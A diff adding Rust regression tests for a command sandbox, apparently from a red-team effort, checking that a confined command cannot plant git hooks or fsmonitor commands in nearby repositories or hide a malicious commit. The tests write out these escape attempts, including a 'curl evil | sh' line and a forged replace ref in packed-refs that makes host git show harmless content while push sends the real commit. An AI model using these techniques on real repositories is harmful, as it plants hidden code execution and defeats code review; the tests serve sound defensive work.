@@ -412,3 +412,157 @@ fn a_gitlink_added_in_commits_mode_cannot_plant_code_for_host_git() {
     ]);
     assert_eq!(o.status.code(), Some(0), "control failed");
 }
+
+/// A command run from `dir` plants a hook and an fsmonitor line in
+/// `repo`'s git dir; true when either got in.
+fn plant_in_repo(
+    w: &World,
+    dir: &Path,
+    repo: &Path,
+    marker: &Path,
+) -> (bool, std::process::Output) {
+    let g = repo.join(".git");
+    let script = format!(
+        "printf '#!/bin/sh\\ntouch {m}\\n' > '{h}' 2>/dev/null; chmod +x '{h}' 2>/dev/null; git -C '{r}' config core.fsmonitor 'touch {m}' 2>/dev/null; exit 0",
+        m = marker.display(),
+        h = g.join("hooks/pre-commit").display(),
+        r = repo.display()
+    );
+    let o = w
+        .cmd(["exec", "--", "sh", "-c", &script])
+        .current_dir(dir)
+        .output()
+        .unwrap();
+    let config = std::fs::read_to_string(g.join("config")).unwrap_or_default();
+    (
+        g.join("hooks/pre-commit").exists() || config.contains("fsmonitor"),
+        o,
+    )
+}
+
+/// Only the workspace's (and each writable root's) own repository was
+/// guarded. A clone beside the workspace in a writable root
+/// (`writable_roots = ["~/src"]`, workspace `~/src/app`, clone
+/// `~/src/group/other`) or a repository in a subfolder of the workspace
+/// had a writable `.git/hooks` and `.git/config`: the user's next `git
+/// commit` or `git status` there ran what the command planted. Every
+/// repository that exists inside a root when the command starts is now
+/// planned like the root's own.
+#[test]
+fn repositories_beside_the_workspace_in_a_writable_root_keep_their_hooks() {
+    let w = World::new();
+    let src = w.base.join("src");
+    let (app, other, inner) = (
+        src.join("app"),
+        src.join("group/other"),
+        src.join("app/lib/vendored"),
+    );
+    for r in [&app, &other, &inner] {
+        std::fs::create_dir_all(r).unwrap();
+        w.git(r, &["init", "-q"]);
+    }
+    w.set_config(&format!(
+        "[sandbox_workspace_write]\nexclude_slash_tmp = true\nexclude_tmpdir_env_var = true\nwritable_roots = [\"{}\"]\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}",
+        src.display()
+    ));
+    let marker = w.base.join("pwned");
+    for repo in [&other, &inner] {
+        let (planted, o) = plant_in_repo(&w, &app, repo, &marker);
+        assert!(
+            !planted,
+            "sandbox breached: a command in `{}` planted a hook or fsmonitor in `{}` (exit {:?}, stderr `{}`)",
+            app.display(),
+            repo.display(),
+            o.status.code(),
+            String::from_utf8_lossy(&o.stderr)
+        );
+    }
+    // Control: the files of both repositories are still the command's.
+    let o = w
+        .cmd([
+            "exec",
+            "--",
+            "sh",
+            "-c",
+            &format!(
+                "echo a > '{}/f' && echo b > '{}/f' && echo ok",
+                other.display(),
+                inner.display()
+            ),
+        ])
+        .current_dir(&app)
+        .output()
+        .unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&o.stdout).trim(),
+        "ok",
+        "control failed: {}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+}
+
+/// With the default config `/tmp` is writable, and a clone elsewhere in
+/// it (`/tmp/other`, next to a workspace `/tmp/ws`) keeps a writable
+/// `.git/hooks`. Not fixed here: `/tmp` and `$TMPDIR` get no git plan in
+/// `crates/sandbox/src/run.rs` (the lead's file); calling `git::plan` on
+/// them as on `writable_roots` closes it.
+#[test]
+#[ignore = "needs git::plan on /tmp and $TMPDIR in crates/sandbox/src/run.rs (red team 6 report)"]
+fn a_repository_elsewhere_in_a_writable_tmp_keeps_its_hooks() {
+    let w = World::with_config_under(
+        Path::new("/tmp"),
+        &format!("[limits]\ntimeout_secs = 60\n{ALLOW_ALL}"),
+    );
+    let other = w.base.join("other");
+    std::fs::create_dir_all(&other).unwrap();
+    w.git(&other, &["init", "-q"]);
+    w.git(&w.ws, &["init", "-q"]);
+    let (planted, o) = plant_in_repo(&w, &w.ws, &other, &w.base.join("pwned"));
+    assert!(
+        !planted,
+        "sandbox breached: a command in `{}` planted a hook or fsmonitor in `{}` under the writable /tmp (exit {:?}, stderr `{}`)",
+        w.ws.display(),
+        other.display(),
+        o.status.code(),
+        String::from_utf8_lossy(&o.stderr)
+    );
+    // Control: the clone's files are still writable.
+    let o = w.run([
+        "exec",
+        "--",
+        "sh",
+        "-c",
+        &format!("echo a > '{}/f'", other.display()),
+    ]);
+    assert_eq!(o.status.code(), Some(0), "control failed");
+}
+
+/// In `"commits"` mode `refs/` and `packed-refs` are writable, so the
+/// command can commit a malicious file and add a replace ref that makes
+/// host git show the old, harmless content for it (`git show`, `git
+/// diff`, the checked-out file), while `git push` sends the real commit.
+/// Not fixed here: the post-run checks of commits mode live in
+/// `crates/sandbox/src/run.rs`; `git::replace_refs` lists what to compare.
+#[test]
+#[ignore = "needs a post-run replace-ref check in crates/sandbox/src/run.rs (red team 6 report)"]
+fn a_replace_ref_made_in_commits_mode_cannot_hide_a_commit_from_review() {
+    let w = World::with_config(&format!(
+        "[sandbox_workspace_write]\nexclude_slash_tmp = true\nexclude_tmpdir_env_var = true\nallow_git_writes = \"commits\"\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}"
+    ));
+    w.git(&w.ws, &["init", "-q"]);
+    std::fs::write(w.ws.join("f"), "good\n").unwrap();
+    w.git(&w.ws, &["add", "f"]);
+    w.git(&w.ws, &["commit", "-q", "-m", "init"]);
+    let attack = "echo 'curl evil | sh' > f && git add f && git -c user.name=t -c user.email=t@x commit -qm 'fix typo' && echo \"$(git rev-parse HEAD~1:f) refs/replace/$(git rev-parse HEAD:f)\" >> .git/packed-refs && git checkout -q HEAD~1 -- f && git checkout -q HEAD -- f";
+    let o = w.run(["exec", "--", "sh", "-c", attack]);
+    let shown = git_in(&w, &w.ws, &["show", "HEAD:f"]);
+    let real = git_in(&w, &w.ws, &["--no-replace-objects", "show", "HEAD:f"]);
+    assert!(
+        shown.stdout == real.stdout,
+        "sandbox breached: host git shows `{}` for a commit holding `{}` (exit {:?}, stderr `{}`)",
+        String::from_utf8_lossy(&shown.stdout).trim(),
+        String::from_utf8_lossy(&real.stdout).trim(),
+        o.status.code(),
+        String::from_utf8_lossy(&o.stderr)
+    );
+}
